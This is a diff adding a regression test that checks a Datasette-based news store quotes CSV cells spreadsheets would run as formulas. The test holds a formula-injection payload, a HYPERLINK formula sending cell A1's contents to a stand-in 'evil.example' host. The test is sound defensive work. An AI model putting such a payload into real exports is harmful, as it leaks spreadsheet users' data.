@@ -6,6 +6,8 @@ Started for real as a subprocess on a free port and driven by headless Chromium.
 from __future__ import annotations
 
 from contextlib import contextmanager
+import csv
+import io
 import json
 import socket
 import subprocess
@@ -394,3 +396,27 @@ def test_csv_downloads_start_with_a_bom_for_excel_when_asked(db_path, tmp_path, 
     monkeypatch.setenv("STIWATCH_CSV_BOM", "true")
     with serving(db_path, tmp_path) as base:
         assert fetch(base + urls[0]) == b"\xef\xbb\xbf" + plain[urls[0]]
+
+
+def test_csv_downloads_quote_cells_a_spreadsheet_would_run_as_formulas(db_path, tmp_path):
+    """A crawled title `=HYPERLINK(...)` went into Datasette's CSV as is, and ran as a
+    formula when the download was opened in Excel; stiwatch's own CSV quoted it. Now the
+    browser's CSV does the same, for a table, a query and a streamed download."""
+    analysts_store.build(db_path)
+    formula = '=HYPERLINK("http://evil.example/?"&A1, "Read")'
+    with db.open_store(db_path) as store:
+        store.save_items([{"url": "https://mext-news.example/evil", "source_id": "mext-news",
+                           "title": formula, "summary": "@SUM(1+1)",
+                           "body": 'two\nlines, "quoted" -and\n=not a cell start'}])
+    with serving(db_path, tmp_path) as base:
+        for url in ("/stiwatch/items.csv?_dl=1&_size=max", "/stiwatch/items.csv?_stream=on",
+                    "/stiwatch.csv?sql=select+id,title,summary,body+from+items"):
+            status, body = get(base + url)
+            assert status == 200, body[:300]
+            rows = {row["id"]: row for row in csv.DictReader(io.StringIO(body, newline=""))}
+            assert len(rows) == len(analysts_store.ITEMS) + 1, url
+            evil = next(row for row in rows.values() if "HYPERLINK" in row["title"])
+            assert evil["title"] == "'" + formula and evil["summary"] == "'@SUM(1+1)", url
+            assert evil["body"] == 'two\nlines, "quoted" -and\n=not a cell start', url
+            assert "Japan launches national quantum strategy" in {
+                row["title"] for row in rows.values()}
